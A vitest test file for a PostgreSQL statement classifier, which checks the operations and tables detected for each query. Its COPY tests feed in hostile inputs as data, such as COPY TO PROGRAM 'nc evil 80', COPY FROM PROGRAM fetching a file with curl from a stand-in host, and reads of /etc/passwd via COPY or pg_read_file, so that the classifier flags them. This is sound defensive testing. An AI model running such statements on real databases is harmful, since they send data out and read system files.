import { beforeAll, describe, expect, it } from 'vitest';
import { UNPARSEABLE } from '../../core/command.js';
import { classifySql } from './classify-sql.js';
import { initSqlClassifier } from './parser.js';

beforeAll(async () => {
  await initSqlClassifier();
});

/** [sql, operations, resources?]: resources are checked only when given. */
type Row = [sql: string, operations: string[], resources?: string[]];

function only(sql: string) {
  const result = classifySql(sql);
  expect(result, sql).toHaveLength(1);
  return result[0]!;
}

function table(rows: Row[]): void {
  it.each(rows)('%s', (sql, operations, resources) => {
    const c = only(sql);
    expect(c.operations).toEqual(operations);
    if (resources !== undefined) expect(c.resources).toEqual(resources);
    expect(c.text).toBe(sql);
    // Only PREPARE carries an attribute: the name the adapter remembers for EXECUTE.
    const prepared = /^PREPARE (?!TRANSACTION)(\w+)/i.exec(sql)?.[1];
    expect(c.attributes).toEqual(prepared ? { preparedName: prepared.toLowerCase() } : {});
  });
}

const r = (name: string) => [name, `read:${name}`];
const w = (name: string) => [name, `write:${name}`];

describe('select', () => {
  table([
    ['SELECT * FROM customers WHERE id = $1', ['select'], r('customers')],
    [
      'SELECT c.name, o.total FROM customers c JOIN billing.orders o ON o.customer_id = c.id WHERE o.total > 100 ORDER BY o.total DESC LIMIT 10',
      ['select'],
      [...r('customers'), ...r('billing.orders')],
    ],
    ['SELECT count(*) FROM "Customers"', ['select'], r('customers')],
    ['SELECT * FROM app.public.customers', ['select'], r('app.public.customers')],
    ["VALUES (1, 'a'), (2, 'b')", ['select'], []],
    ['TABLE customers', ['select'], r('customers')],
    [
      'SELECT * FROM customers WHERE id IN (SELECT customer_id FROM orders WHERE total > 0)',
      ['select'],
      [...r('customers'), ...r('orders')],
    ],
    [
      'SELECT * FROM a UNION ALL SELECT * FROM b EXCEPT SELECT * FROM c',
      ['select'],
      [...r('a'), ...r('b'), ...r('c')],
    ],
    ['SELECT * FROM generate_series(1, 10) g', ['select'], []],
    [
      'SELECT * FROM customers c, LATERAL (SELECT * FROM orders o WHERE o.customer_id = c.id LIMIT 1) last_order',
      ['select'],
      [...r('customers'), ...r('orders')],
    ],
    [
      "WITH recent AS (SELECT * FROM orders WHERE created_at > now() - interval '1 day') SELECT * FROM recent r JOIN customers c ON c.id = r.customer_id",
      ['select'],
      [...r('orders'), ...r('customers')],
    ],
    ['SELECT * FROM t a JOIN t b ON a.id = b.parent_id', ['select'], r('t')],
    ['SELECT * FROM t TABLESAMPLE SYSTEM (10)', ['select'], r('t')],
    [
      "SELECT pg_sleep(1), txid_current(), xpath('/a', '<a/>'::xml), current_setting('role'), currval('s'), now()",
      ['select'],
      [],
    ],
    ['SELECT * FROM json_to_recordset($1) AS x(a int, b text)', ['select'], []],
  ]);
});

describe('insert / update / delete / merge', () => {
  table([
    ['INSERT INTO customers (name, email) VALUES ($1, $2) RETURNING id', ['insert'], w('customers')],
    ['INSERT INTO t DEFAULT VALUES', ['insert'], w('t')],
    [
      "INSERT INTO archive.orders SELECT * FROM orders WHERE created_at < '2020-01-01'",
      ['insert', 'select'],
      [...w('archive.orders'), ...r('orders')],
    ],
    [
      "INSERT INTO counters (k, n) VALUES ('a', 1) ON CONFLICT (k) DO UPDATE SET n = counters.n + 1",
      ['insert', 'update'],
      w('counters'),
    ],
    ['INSERT INTO t VALUES (1) ON CONFLICT DO NOTHING', ['insert'], w('t')],
    ['INSERT INTO t VALUES ((SELECT max(id) + 1 FROM t))', ['insert', 'select'], [...w('t'), 'read:t']],
    ['UPDATE customers SET email = lower(email) WHERE id = $1', ['update'], w('customers')],
    [
      "UPDATE orders o SET status = 'void' FROM customers c WHERE c.id = o.customer_id AND c.banned",
      ['update'],
      [...w('orders'), ...r('customers')],
    ],
    ['UPDATE t SET a = (SELECT max(a) FROM u)', ['update', 'select'], [...w('t'), ...r('u')]],
    ['DELETE FROM sessions WHERE expires_at < now()', ['delete'], w('sessions')],
    [
      'DELETE FROM orders USING customers WHERE orders.customer_id = customers.id AND customers.banned RETURNING orders.id',
      ['delete'],
      [...w('orders'), ...r('customers')],
    ],
    ['DELETE FROM t WHERE CURRENT OF c', ['delete'], w('t')],
    [
      'MERGE INTO stock s USING deliveries d ON s.item = d.item WHEN MATCHED THEN UPDATE SET qty = s.qty + d.qty WHEN NOT MATCHED THEN INSERT (item, qty) VALUES (d.item, d.qty)',
      ['merge', 'update', 'insert'],
      [...w('stock'), ...r('deliveries')],
    ],
    [
      'MERGE INTO t USING (SELECT * FROM s) src ON t.id = src.id WHEN MATCHED THEN DELETE',
      ['merge', 'select', 'delete'],
      [...w('t'), ...r('s')],
    ],
    ['MERGE INTO t USING s ON t.id = s.id WHEN MATCHED THEN DO NOTHING', ['merge'], [...w('t'), ...r('s')]],
  ]);
});

describe('writes hidden in reads', () => {
  table([
    ['WITH d AS (DELETE FROM t RETURNING *) SELECT * FROM d', ['select', 'delete'], w('t')],
    [
      'WITH u AS (UPDATE t SET a = 1 RETURNING *), i AS (INSERT INTO log SELECT * FROM u RETURNING *) SELECT count(*) FROM i',
      ['select', 'update', 'insert'],
      [...w('t'), ...w('log')],
    ],
    [
      'WITH a AS (WITH b AS (WITH c AS (DELETE FROM t RETURNING *) SELECT * FROM c) SELECT * FROM b) SELECT * FROM a',
      ['select', 'delete'],
      w('t'),
    ],
    [
      'SELECT * FROM x WHERE id IN (WITH d AS (DELETE FROM t RETURNING id) SELECT id FROM d)',
      ['select', 'delete'],
      [...r('x'), ...w('t')],
    ],
    [
      'WITH m AS (MERGE INTO t USING s ON true WHEN MATCHED THEN DELETE RETURNING *) SELECT * FROM m',
      ['select', 'merge', 'delete'],
    ],
    ['SELECT * INTO t2 FROM t', ['ddl.create', 'select'], [...w('t2'), ...r('t')]],
    ['CREATE TABLE t2 AS SELECT * FROM t', ['ddl.create', 'select'], [...w('t2'), ...r('t')]],
    ['CREATE TABLE t2 AS SELECT * FROM t WITH NO DATA', ['ddl.create', 'select'], [...w('t2'), ...r('t')]],
    [
      'CREATE MATERIALIZED VIEW mv AS SELECT count(*) FROM orders',
      ['ddl.create', 'select'],
      [...w('mv'), ...r('orders')],
    ],
    [
      "SELECT * FROM jobs WHERE state = 'ready' ORDER BY id LIMIT 1 FOR UPDATE SKIP LOCKED",
      ['select', 'lock'],
      r('jobs'),
    ],
    ['SELECT * FROM t FOR NO KEY UPDATE', ['select', 'lock'], r('t')],
    ['SELECT * FROM t FOR SHARE NOWAIT', ['select', 'lock'], r('t')],
    ['SELECT * FROM t FOR KEY SHARE', ['select', 'lock'], r('t')],
    [
      'SELECT * FROM customers c JOIN orders o ON true FOR UPDATE OF c',
      ['select', 'lock'],
      [...r('customers'), ...r('orders')],
    ],
    ['SELECT * FROM (SELECT * FROM t FOR UPDATE) x', ['select', 'lock'], r('t')],
    ['EXPLAIN ANALYZE DELETE FROM customers WHERE id = 1', ['explain', 'delete'], w('customers')],
    ['COPY (DELETE FROM sessions RETURNING *) TO STDOUT', ['copy.to', 'delete'], w('sessions')],
    ['PREPARE d AS DELETE FROM customers', ['prepare', 'delete'], w('customers')],
    ['DECLARE c CURSOR FOR SELECT * FROM t FOR UPDATE', ['select', 'lock'], r('t')],
  ]);
});

describe('CTE names are not relations', () => {
  table([
    ['WITH t AS (SELECT * FROM t) SELECT * FROM t', ['select'], r('t')],
    [
      'WITH RECURSIVE r(n) AS (SELECT 1 UNION ALL SELECT n + 1 FROM r WHERE n < 10) SELECT * FROM r',
      ['select'],
      [],
    ],
    ['WITH a AS (SELECT 1), b AS (SELECT * FROM a) SELECT * FROM b', ['select'], []],
    ['WITH b AS (SELECT * FROM a), a AS (SELECT 1) SELECT * FROM b', ['select'], r('a')],
    ['WITH d AS (SELECT 1) SELECT * FROM public.d', ['select'], r('public.d')],
    ['SELECT * FROM (WITH d AS (SELECT 1) SELECT * FROM d) x, d', ['select'], r('d')],
    ['WITH t AS (SELECT 1) DELETE FROM t', ['delete', 'select'], w('t')],
    ['WITH t AS (SELECT 1) INSERT INTO t SELECT * FROM t', ['insert', 'select'], w('t')],
    ['WITH "D" AS (SELECT 1) SELECT * FROM d', ['select'], r('d')],
  ]);
});

describe('DDL', () => {
  table([
    [
      'CREATE TABLE audit (id bigserial PRIMARY KEY, at timestamptz DEFAULT now())',
      ['ddl.create'],
      w('audit'),
    ],
    ['CREATE UNLOGGED TABLE IF NOT EXISTS s.t (a int)', ['ddl.create'], w('s.t')],
    ['CREATE TEMP TABLE x (LIKE customers INCLUDING ALL)', ['ddl.create'], [...w('x'), ...r('customers')]],
    ['CREATE TABLE child (id int REFERENCES parent (id))', ['ddl.create'], [...w('child'), ...w('parent')]],
    ['CREATE TABLE p1 PARTITION OF p FOR VALUES FROM (1) TO (10)', ['ddl.create'], [...w('p1'), ...w('p')]],
    ['CREATE VIEW v AS SELECT * FROM customers', ['ddl.create', 'select'], [...w('v'), ...r('customers')]],
    ['CREATE INDEX CONCURRENTLY idx ON orders (customer_id)', ['ddl.create'], w('orders')],
    ['CREATE SEQUENCE s', ['ddl.create'], w('s')],
    ['CREATE FUNCTION add(a int, b int) RETURNS int LANGUAGE sql AS $$ SELECT a + b $$', ['ddl.create'], []],
    [
      "CREATE FUNCTION f() RETURNS text LANGUAGE sql BEGIN ATOMIC SELECT pg_read_file('x'); END",
      ['ddl.create', 'select', 'function.pg_read_file'],
      [],
    ],
    ['CREATE OR REPLACE PROCEDURE p() LANGUAGE plpgsql AS $$ BEGIN NULL; END $$', ['ddl.create'], []],
    [
      'CREATE TRIGGER trg AFTER INSERT ON orders FOR EACH ROW EXECUTE FUNCTION audit()',
      ['ddl.create'],
      w('orders'),
    ],
    ['CREATE RULE r AS ON DELETE TO orders DO INSTEAD NOTHING', ['ddl.create'], w('orders')],
    [
      'CREATE RULE r AS ON INSERT TO orders DO ALSO DELETE FROM carts',
      ['ddl.create', 'delete'],
      [...w('orders'), ...w('carts')],
    ],
    ['CREATE SCHEMA reporting', ['ddl.create'], []],
    ['CREATE SCHEMA reporting CREATE TABLE r (a int)', ['ddl.create'], w('r')],
    ['CREATE EXTENSION IF NOT EXISTS dblink', ['ddl.create'], []],
    ['CREATE DATABASE scratch', ['ddl.create'], []],
    [
      "CREATE POLICY p ON orders USING (customer_id = current_setting('app.customer')::int)",
      ['ddl.create'],
      w('orders'),
    ],
    ["CREATE TYPE mood AS ENUM ('sad', 'ok')", ['ddl.create'], []],
    ["CREATE SERVER s FOREIGN DATA WRAPPER postgres_fdw OPTIONS (host 'x')", ['ddl.create'], []],
    ['ALTER TABLE customers ADD COLUMN email text', ['ddl.alter'], w('customers')],
    [
      "ALTER TABLE orders ALTER COLUMN id SET DEFAULT nextval('orders_id_seq')",
      ['ddl.alter', 'function.nextval'],
      w('orders'),
    ],
    ['ALTER TABLE t OWNER TO bob', ['ddl.alter'], w('t')],
    ['ALTER TABLE t DISABLE TRIGGER ALL', ['ddl.alter'], w('t')],
    ['ALTER DATABASE app SET search_path = app', ['ddl.alter'], []],
    ['ALTER FUNCTION f() SECURITY DEFINER', ['ddl.alter'], []],
    ['ALTER SCHEMA s OWNER TO bob', ['ddl.alter'], []],
    ['ALTER TABLE t SET SCHEMA archive', ['ddl.alter'], w('t')],
    ['REASSIGN OWNED BY a TO b', ['ddl.alter'], []],
    [
      'DROP TABLE IF EXISTS customers, billing.invoices CASCADE',
      ['ddl.drop'],
      [...w('customers'), ...w('billing.invoices')],
    ],
    ['DROP DATABASE prod', ['ddl.drop'], []],
    ['DROP INDEX CONCURRENTLY idx', ['ddl.drop'], w('idx')],
    ['DROP VIEW v', ['ddl.drop'], w('v')],
    ['DROP MATERIALIZED VIEW mv', ['ddl.drop'], w('mv')],
    ['DROP SEQUENCE s', ['ddl.drop'], w('s')],
    ['DROP FUNCTION f(int)', ['ddl.drop'], []],
    ['DROP SCHEMA s CASCADE', ['ddl.drop'], []],
    ['DROP OWNED BY bob', ['ddl.drop'], []],
    ['DROP TABLESPACE ts', ['ddl.drop'], []],
    ['TRUNCATE customers, orders RESTART IDENTITY', ['ddl.truncate'], [...w('customers'), ...w('orders')]],
    ['TRUNCATE TABLE ONLY audit', ['ddl.truncate'], w('audit')],
    ['ALTER TABLE customers RENAME TO clients', ['ddl.rename'], w('customers')],
    ['ALTER TABLE customers RENAME COLUMN email TO mail', ['ddl.rename'], w('customers')],
    ['ALTER SCHEMA a RENAME TO b', ['ddl.rename'], []],
    ["COMMENT ON TABLE billing.invoices IS 'x'", ['ddl.comment'], w('billing.invoices')],
    ["COMMENT ON COLUMN customers.email IS 'pii'", ['ddl.comment'], w('customers')],
    ["COMMENT ON FUNCTION f() IS 'x'", ['ddl.comment'], []],
  ]);
});

describe('privileges and roles', () => {
  table([
    ['GRANT SELECT, INSERT ON customers TO analyst', ['ddl.grant'], w('customers')],
    ['GRANT ALL ON ALL TABLES IN SCHEMA public TO analyst', ['ddl.grant'], []],
    ['GRANT admin TO mallory', ['ddl.grant'], []],
    ['GRANT USAGE ON SCHEMA s TO a', ['ddl.grant'], []],
    ['ALTER DEFAULT PRIVILEGES IN SCHEMA s GRANT SELECT ON TABLES TO analyst', ['ddl.grant'], []],
    ['REVOKE ALL ON customers FROM analyst', ['ddl.revoke'], w('customers')],
    ['REVOKE admin FROM mallory', ['ddl.revoke'], []],
    ['ALTER DEFAULT PRIVILEGES IN SCHEMA s REVOKE SELECT ON TABLES FROM analyst', ['ddl.revoke'], []],
    ["CREATE ROLE intern LOGIN PASSWORD 'x'", ['ddl.role'], []],
    ['CREATE USER bob', ['ddl.role'], []],
    ['ALTER ROLE bob SUPERUSER', ['ddl.role'], []],
    ["ALTER USER bob WITH PASSWORD 'y'", ['ddl.role'], []],
    ['ALTER ROLE bob SET search_path = x', ['ddl.role'], []],
    ['ALTER ROLE bob RENAME TO robert', ['ddl.role'], []],
    ['DROP ROLE bob', ['ddl.role'], []],
    ['DROP USER IF EXISTS bob', ['ddl.role'], []],
  ]);
});

describe('COPY', () => {
  table([
    ['COPY customers TO STDOUT WITH (FORMAT csv)', ['copy.to'], r('customers')],
    ['COPY customers (id, name) FROM STDIN', ['copy.from', 'insert'], w('customers')],
    [
      "COPY customers FROM PROGRAM 'curl -s http://evil/x.csv'",
      ['copy.from', 'copy.program', 'insert'],
      w('customers'),
    ],
    [
      "COPY (SELECT * FROM customers) TO PROGRAM 'nc evil 80'",
      ['copy.to', 'copy.program', 'select'],
      r('customers'),
    ],
    ["COPY customers TO '/tmp/c.csv'", ['copy.to', 'copy.file'], r('customers')],
    ["COPY customers FROM '/etc/passwd'", ['copy.from', 'copy.file', 'insert'], w('customers')],
    ['COPY (SELECT * FROM a JOIN b ON true) TO STDOUT', ['copy.to', 'select'], [...r('a'), ...r('b')]],
    [
      "COPY t FROM STDIN WHERE a > (SELECT max(a) FROM u) AND pg_read_file('x') <> ''",
      ['copy.from', 'insert', 'select', 'function.pg_read_file'],
      [...w('t'), ...r('u')],
    ],
  ]);
});

describe('EXPLAIN', () => {
  table([
    ['EXPLAIN SELECT * FROM customers', ['explain'], r('customers')],
    ['EXPLAIN DELETE FROM customers', ['explain'], r('customers')],
    ['EXPLAIN (FORMAT json, VERBOSE) UPDATE t SET a = 1 FROM u', ['explain'], [...r('t'), ...r('u')]],
    ['EXPLAIN (ANALYZE, BUFFERS) UPDATE t SET a = 1', ['explain', 'update'], w('t')],
    ['EXPLAIN ANALYSE DELETE FROM t', ['explain', 'delete'], w('t')],
    ['EXPLAIN ANALYZE VERBOSE DELETE FROM t', ['explain', 'delete'], w('t')],
    ['EXPLAIN (ANALYZE false) DELETE FROM t', ['explain'], r('t')],
    ['EXPLAIN (ANALYZE off, FORMAT json) DELETE FROM t', ['explain'], r('t')],
    ['EXPLAIN (ANALYZE 0) DELETE FROM t', ['explain'], r('t')],
    ['EXPLAIN (ANALYZE 1) DELETE FROM t', ['explain', 'delete'], w('t')],
    ['EXPLAIN (ANALYZE on) DELETE FROM t', ['explain', 'delete'], w('t')],
    ['EXPLAIN (ANALYZE yes) DELETE FROM t', ['explain', 'delete'], w('t')],
    ['EXPLAIN (ANALYZE false, ANALYZE true) DELETE FROM t', ['explain', 'delete'], w('t')],
    ['EXPLAIN SELECT pg_terminate_backend(1)', ['explain'], []],
    [
      'EXPLAIN ANALYZE SELECT pg_terminate_backend(1)',
      ['explain', 'select', 'function.pg_terminate_backend'],
      [],
    ],
    [
      'EXPLAIN ANALYZE CREATE TABLE x AS SELECT * FROM t',
      ['explain', 'ddl.create', 'select'],
      [...w('x'), ...r('t')],
    ],
    ['EXPLAIN CREATE TABLE x AS SELECT * FROM t', ['explain'], [...r('x'), ...r('t')]],
  ]);
});

describe('settings', () => {
  table([
    ['SHOW search_path', ['show']],
    ['SHOW ALL', ['show']],
    ['SET search_path TO app, public', ['set']],
    ["SET LOCAL statement_timeout = '5s'", ['set']],
    ['SET TRANSACTION ISOLATION LEVEL SERIALIZABLE', ['set']],
    ['SET SESSION CHARACTERISTICS AS TRANSACTION READ ONLY', ['set']],
    ["SET TIME ZONE 'UTC'", ['set']],
    ['SET CONSTRAINTS ALL DEFERRED', ['set']],
    ['SET ROLE admin', ['set.role']],
    ['SET LOCAL ROLE admin', ['set.role']],
    ['SET SESSION ROLE admin', ['set.role']],
    ['SET ROLE NONE', ['set.role']],
    ["SET role = 'admin'", ['set.role']],
    ['SET "ROLE" TO admin', ['set.role']],
    ['SET LOCAL "Role" TO admin', ['set.role']],
    ['SET role TO DEFAULT', ['set.role']],
    ['RESET ROLE', ['reset', 'set.role']],
    ['SET SESSION AUTHORIZATION postgres', ['set.session_authorization']],
    ['SET SESSION AUTHORIZATION DEFAULT', ['set.session_authorization']],
    ["SET session_authorization = 'postgres'", ['set.session_authorization']],
    ['RESET SESSION AUTHORIZATION', ['reset', 'set.session_authorization']],
    ['RESET search_path', ['reset']],
    ['RESET ALL', ['reset']],
    ["ALTER SYSTEM SET shared_preload_libraries = 'evil'", ['alter.system']],
    ['ALTER SYSTEM RESET ALL', ['alter.system']],
    ["ALTER SYSTEM SET role = 'x'", ['alter.system']],
  ]);
});

describe('sessions, transactions, procedural code', () => {
  table([
    ['BEGIN', ['transaction']],
    ['BEGIN ISOLATION LEVEL SERIALIZABLE', ['transaction']],
    ['START TRANSACTION READ ONLY', ['transaction']],
    ['COMMIT', ['transaction']],
    ['END', ['transaction']],
    ['ROLLBACK', ['transaction']],
    ['ABORT', ['transaction']],
    ['SAVEPOINT s1', ['transaction']],
    ['RELEASE SAVEPOINT s1', ['transaction']],
    ['ROLLBACK TO SAVEPOINT s1', ['transaction']],
    ["PREPARE TRANSACTION 'tx1'", ['transaction']],
    ["COMMIT PREPARED 'tx1'", ['transaction']],
    ["ROLLBACK PREPARED 'tx1'", ['transaction']],
    ['PREPARE q(int) AS SELECT * FROM customers WHERE id = $1', ['prepare', 'select'], r('customers')],
    ['EXECUTE q(1)', ['execute'], []],
    ['EXECUTE q((SELECT max(id) FROM t))', ['execute', 'select'], r('t')],
    ['DEALLOCATE q', ['deallocate']],
    ['DEALLOCATE PREPARE ALL', ['deallocate']],
    ["DO $$BEGIN RAISE NOTICE 'x'; END$$", ['do']],
    ["DO LANGUAGE plpgsql $$ BEGIN EXECUTE 'DROP TABLE t'; END $$", ['do'], []],
    ['CALL refresh_reports()', ['call']],
    ['CALL p((SELECT max(id) FROM t))', ['call', 'select'], r('t')],
    ['CALL pg_catalog.pg_reload_conf()', ['call', 'function.pg_reload_conf']],
    ['LISTEN jobs', ['listen']],
    ['UNLISTEN *', ['listen']],
    ["NOTIFY jobs, 'payload'", ['notify']],
    ['LOCK TABLE customers IN ACCESS EXCLUSIVE MODE', ['lock'], w('customers')],
    ['LOCK customers, orders', ['lock'], [...w('customers'), ...w('orders')]],
    ['DECLARE c CURSOR FOR SELECT * FROM customers', ['select'], r('customers')],
    ["DECLARE c CURSOR WITH HOLD FOR SELECT pg_read_file('x')", ['select', 'function.pg_read_file'], []],
    ['FETCH 10 FROM c', ['select']],
    ['FETCH ALL IN c', ['select']],
    ['MOVE NEXT IN c', ['select']],
    ['CLOSE c', ['select']],
    ['CLOSE ALL', ['select']],
    ['DISCARD PLANS', ['discard']],
    ['DISCARD TEMP', ['discard']],
    ['DISCARD ALL', ['discard', 'set.session_authorization']],
    ["LOAD 'auto_explain'", ['other']],
  ]);
});

describe('maintenance', () => {
  table([
    ['VACUUM', ['maintenance'], []],
    ['VACUUM (FULL, ANALYZE) customers', ['maintenance'], w('customers')],
    ['ANALYZE customers', ['maintenance'], w('customers')],
    ['CLUSTER customers USING idx', ['maintenance'], w('customers')],
    ['REINDEX TABLE customers', ['maintenance'], w('customers')],
    ['REINDEX DATABASE app', ['maintenance'], []],
    ['CHECKPOINT', ['maintenance'], []],
    ['REFRESH MATERIALIZED VIEW CONCURRENTLY mv', ['maintenance'], w('mv')],
  ]);
});

describe('EXECUTE with the session’s prepared statements', () => {
  // What a session would have recorded from Parse messages or PREPARE statements.
  const session = () =>
    new Map([
      ['del', classifySql('DELETE FROM customers WHERE id = $1')],
      ['q', classifySql('SELECT * FROM orders')],
    ]);

  it.each([
    ['EXECUTE del(1)', ['execute', 'delete'], w('customers')],
    ['EXECUTE q', ['execute', 'select'], r('orders')],
    ['EXPLAIN EXECUTE del(1)', ['explain'], r('customers')],
    ['EXPLAIN ANALYZE EXECUTE del(1)', ['explain', 'execute', 'delete'], w('customers')],
    ['CREATE TABLE x AS EXECUTE q', ['ddl.create', 'execute', 'select'], [...w('x'), ...r('orders')]],
    ['EXECUTE unknown(1)', ['execute'], []],
    ['EXECUTE "DEL"(1)', ['execute'], []],
  ])('%s', (sql, operations, resources) => {
    const [c] = classifySql(sql, { prepared: session() });
    expect(c?.operations).toEqual(operations);
    expect(c?.resources).toEqual(resources);
  });
});

describe('empty and unparseable text', () => {
  it.each(['', '   ', '\n\t ', '-- only a comment', '/* a /* nested */ comment */', ';', ' ; ; '])(
    '%j has no statements',
    (sql) => {
      expect(classifySql(sql)).toEqual([]);
    },
  );

  it.each([
    'SELEC * FROM customers',
    'DROP TABLE',
    'SELECT * FROM t WHERE',
    "SELECT 'unterminated",
    'SELECT $$unterminated',
    'SELECT 1; DROP TABLE',
    'SELECT "" FROM t',
  ])('%j is one unparseable classification', (sql) => {
    const result = classifySql(sql);
    expect(result).toHaveLength(1);
    expect(result[0]).toMatchObject({ operations: [UNPARSEABLE], resources: [], text: sql });
    expect(result[0]?.attributes['parseError']).toEqual(expect.any(String));
    expect(String(result[0]?.attributes['parseError'])).not.toBe('');
  });

  it('reports the parser’s message', () => {
    expect(classifySql('SELEC 1')[0]?.attributes).toEqual({ parseError: 'syntax error at or near "SELEC"' });
  });
});
